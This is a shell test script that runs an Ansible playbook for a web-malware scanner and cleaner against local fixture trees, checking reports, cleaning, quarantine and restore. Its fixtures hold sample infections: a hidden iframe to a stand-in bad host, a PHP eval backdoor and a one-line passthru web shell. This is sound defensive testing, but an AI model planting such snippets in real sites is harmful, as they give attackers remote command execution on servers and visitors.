#!/usr/bin/env bash
# The fleet playbook (packaging/ansible/tervane.yml), run by ansible-playbook as
# the README runs it, against this machine as three hosts (connection local):
# an infected tree, a clean one, and a location that does not exist. Checks the
# fetched reports, that an infected host is reported and not failed while a
# failing scan fails its host, and, with tervane_clean=true, the preview, the
# clean's report, the cleaned files and their backups, and with
# tervane_report=true the one page of all three hosts' reports; and a signature
# set (tervane_signatures) alone scanned, previewed and cleaned on a fourth. The package install is
# left out (it needs root and would change this machine).
#
# ansible_playbook.sh TERVANE_CLI
set -euo pipefail
cli=$(readlink -f "$1")
here=$(cd "$(dirname "$0")" && pwd)
playbook=$(cd "$here/../../packaging/ansible" && pwd)/tervane.yml
failures=0
fail() {
  echo "FAIL: $*" >&2
  failures=$((failures + 1))
}
tools_fail() {
  echo "FAIL: $*" >&2
  exit 1
}
source "$here/../tools.sh"
if ! need ansible-playbook ansible; then
  tools_status || exit $?
fi

tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
sig='<iframe src="http://bad.example.net/x.php" width=0 height=0></iframe>'
printf '%s' "$sig" >"$tmp/sig.txt"
mkdir -p "$tmp/infected/sub" "$tmp/clean" "$tmp/run"
printf '[defaults]\n' >"$tmp/ansible.cfg"
printf '<?php echo 1; ?>%s\n<p>ok</p>\n' "$sig" >"$tmp/infected/index.php"
printf '<html>%s</html>\n' "$(tr a-z A-Z <<<"$sig")" >"$tmp/infected/sub/page.php"
printf '<?php echo 2; ?>\n' >"$tmp/infected/plain.php"
printf '<?php echo 3; ?>\n' >"$tmp/clean/index.php"
cp "$tmp/infected/index.php" "$tmp/index.php.orig"
# The set: the same frame and a PHP line, on a tree of their own.
mkdir -p "$tmp/setinfected"
printf '{"name":"frame","text":"%s"}\n{"name":"php-eval","text":"<?php @eval($_POST[1]); ?>"}\n' \
  "${sig//\"/\\\"}" >"$tmp/set.jsonl"
# A web shell, which the set's member takes out whole.
printf '{"name":"shell","text":"passthru($_request[9])","action":"quarantine"}\n' >>"$tmp/set.jsonl"
printf '<?php passthru($_REQUEST[9]); ?>\n' >"$tmp/setinfected/d.php"
printf '<p>%s</p>\n' "$sig" >"$tmp/setinfected/a.php"
printf '<?PHP @EVAL($_POST[1]); ?>x\n' >"$tmp/setinfected/b.php"
printf '<?php echo 4; ?>\n' >"$tmp/setinfected/c.php"

# The inventory: each host a tree of its own, its own folder for what the
# playbook copies over.
cat >"$tmp/inventory.ini" <<INV
[webservers]
infected tervane_location=$tmp/infected tervane_work_dir=$tmp/work/infected
clean tervane_location=$tmp/clean tervane_work_dir=$tmp/work/clean
broken tervane_location=$tmp/gone tervane_work_dir=$tmp/work/broken
setinfected tervane_location=$tmp/setinfected tervane_work_dir=$tmp/work/setinfected

[webservers:vars]
ansible_connection=local
ansible_python_interpreter=/usr/bin/python3
INV

# As the README runs it, from the folder that gets ./reports; nothing of the
# user's Ansible setup or backup store.
play() {  # LOG LIMIT [ARGS...]
  local log=$1 limit=$2
  shift 2
  (cd "$tmp/run" && HOME="$tmp/home" XDG_DATA_HOME="$tmp/data" ANSIBLE_CONFIG="$tmp/ansible.cfg" \
    ANSIBLE_LOCAL_TEMP="$tmp/ansible" ANSIBLE_REMOTE_TEMP="$tmp/ansible" ANSIBLE_NOCOLOR=1 \
    ANSIBLE_RETRY_FILES_ENABLED=0 \
    ansible-playbook -i "$tmp/inventory.ini" "$playbook" --limit "$limit" \
    -e tervane_cli="$cli" -e tervane_signature="$tmp/sig.txt" "$@") >"$log" 2>&1
}
recap() {  # LOG HOST: the host's line of the play recap
  sed -n '/PLAY RECAP/,$p' "$1" | grep -E "^$2 +:" || true
}
reports=$tmp/run/reports

# --- Scan only: the infected host is reported, not failed -------------------
if play "$tmp/scan.log" infected,clean; then
  for h in infected clean; do
    grep -q 'failed=0' <<<"$(recap "$tmp/scan.log" $h)" || fail "scan: $h failed: $(recap "$tmp/scan.log" $h)"
  done
  grep -q 'changed=[1-9]' <<<"$(recap "$tmp/scan.log" infected)" || fail "scan: the infected host is not reported"
  grep -q 'infected: see' "$tmp/scan.log" || fail "scan: no 'infected' line"
else
  cat "$tmp/scan.log" >&2
  fail "scan: ansible-playbook failed on an infected and a clean host"
fi
detections() { grep -c '"type":"detection"' "$1" 2>/dev/null || true; }
[ "$(detections "$reports/infected/scan.jsonl")" = 2 ] ||
  fail "scan: the infected host's report holds $(detections "$reports/infected/scan.jsonl") detections, not 2"
grep -q "\"path\":\"$tmp/infected/sub/page.php\"" "$reports/infected/scan.jsonl" ||
  fail "scan: sub/page.php is not in the report"
[ -f "$reports/clean/scan.jsonl" ] || fail "scan: the clean host's report was not fetched"
[ "$(detections "$reports/clean/scan.jsonl")" = 0 ] || fail "scan: the clean host's report lists detections"
grep -q '"type":"summary"' "$reports/clean/scan.jsonl" || fail "scan: the clean host's report has no summary"
[ ! -e "$reports/infected/clean.jsonl" ] || fail "scan: cleaned without being asked"
cmp -s "$tmp/infected/index.php" "$tmp/index.php.orig" || fail "scan: a file changed"

# --- A scan that fails fails its host, after its report is fetched ----------
if play "$tmp/broken.log" broken; then
  fail "broken: ansible-playbook passed where the scan failed"
fi
grep -q 'failed=1' <<<"$(recap "$tmp/broken.log" broken)" || fail "broken: the host did not fail: $(recap "$tmp/broken.log" broken)"
grep -q 'ended with status 2' "$tmp/broken.log" || fail "broken: the failure does not give the status"
[ -f "$reports/broken/scan.jsonl" ] || fail "broken: the report was not fetched"

# --- Scan and clean -------------------------------------------------------
rm -rf "$reports"
if play "$tmp/clean.log" infected,clean -e tervane_clean=true; then
  for h in infected clean; do
    grep -q 'failed=0' <<<"$(recap "$tmp/clean.log" $h)" || fail "clean: $h failed: $(recap "$tmp/clean.log" $h)"
  done
else
  cat "$tmp/clean.log" >&2
  fail "clean: ansible-playbook failed"
fi
grep -q "$tmp/infected/index.php" "$reports/infected/preview.txt" 2>/dev/null ||
  fail "clean: the preview does not name index.php"
outcomes=$(grep -c '"outcome":"cleaned"' "$reports/infected/clean.jsonl" 2>/dev/null || true)
[ "$outcomes" = 2 ] || fail "clean: the clean's report holds $outcomes cleaned files, not 2"
printf '<?php echo 1; ?>\n<p>ok</p>\n' >"$tmp/expected"
cmp -s "$tmp/infected/index.php" "$tmp/expected" || fail "clean: index.php is not clean: $(cat "$tmp/infected/index.php")"
[ "$(cat "$tmp/infected/sub/page.php")" = '<html></html>' ] || fail "clean: sub/page.php is not clean"
[ "$(cat "$tmp/infected/plain.php")" = '<?php echo 2; ?>' ] || fail "clean: a clean file changed"
[ ! -e "$reports/clean/clean.jsonl" ] || fail "clean: the clean host was cleaned"
[ -n "$(find "$tmp/data/tervane/backups" -type f 2>/dev/null)" ] || fail "clean: no backup kept"
# The backups undo it.
XDG_DATA_HOME="$tmp/data" HOME="$tmp/home" "$cli" restore >"$tmp/restore.log" 2>&1 ||
  fail "clean: restore failed: $(cat "$tmp/restore.log")"
cmp -s "$tmp/infected/index.php" "$tmp/index.php.orig" || fail "clean: restore did not bring index.php back"

# --- One page of every host's report, a failing host's included ----------
rm -rf "$reports"
play "$tmp/report.log" infected,clean,broken -e tervane_report=true -e tervane_report_cli="$cli" || true
page=$reports/report.html
if [ -s "$page" ]; then
  for h in infected clean broken; do
    grep -q "<td class=\"server\">$h</td>" "$page" || fail "report: $h is not on the page"
  done
  grep -q 'id="total-found">2<' "$page" || fail "report: the page does not count 2 infected files"
  grep -q "$tmp/infected/sub/page.php" "$page" || fail "report: sub/page.php is not on the page"
else
  fail "report: no page written"
fi

# --- A set alone: scanned, previewed and cleaned ---------------------------
rm -rf "$reports"
if play "$tmp/set.log" setinfected -e tervane_clean=true -e tervane_signature= \
  -e tervane_signatures="$tmp/set.jsonl"; then
  grep -q 'failed=0' <<<"$(recap "$tmp/set.log" setinfected)" || fail "set: the host failed"
else
  fail "set: ansible-playbook failed"
fi
[ "$(detections "$reports/setinfected/scan.jsonl")" = 3 ] ||
  fail "set: the report holds $(detections "$reports/setinfected/scan.jsonl") detections, not 3"
grep -q '"signatures":\["php-eval"\]' "$reports/setinfected/scan.jsonl" ||
  fail "set: the report does not name the PHP line"
grep -q "b.php: 1 to remove, .* \[php-eval\]" "$reports/setinfected/preview.txt" 2>/dev/null ||
  fail "set: the preview does not name the member"
[ "$(cat "$tmp/setinfected/a.php")" = '<p></p>' ] || fail "set: a.php is not clean"
[ "$(cat "$tmp/setinfected/b.php")" = 'x' ] || fail "set: b.php is not clean"
[ "$(cat "$tmp/setinfected/c.php")" = '<?php echo 4; ?>' ] || fail "set: a clean file changed"
[ ! -e "$tmp/setinfected/d.php" ] || fail "set: the web shell was not quarantined"
grep -q '"outcome":"quarantined"' "$reports/setinfected/clean.jsonl" 2>/dev/null ||
  fail "set: the clean's report does not say the shell was quarantined"
[ ! -e "$tmp/work/setinfected/sig.txt" ] || fail "set: a signature file was copied without one given"

if [ "$failures" -ne 0 ]; then
  for log in scan broken clean report set; do
    echo "--- $log.log" >&2
    cat "$tmp/$log.log" >&2
  done
  exit 1
fi
echo "playbook: scan, failure, clean, report and a set: ok"
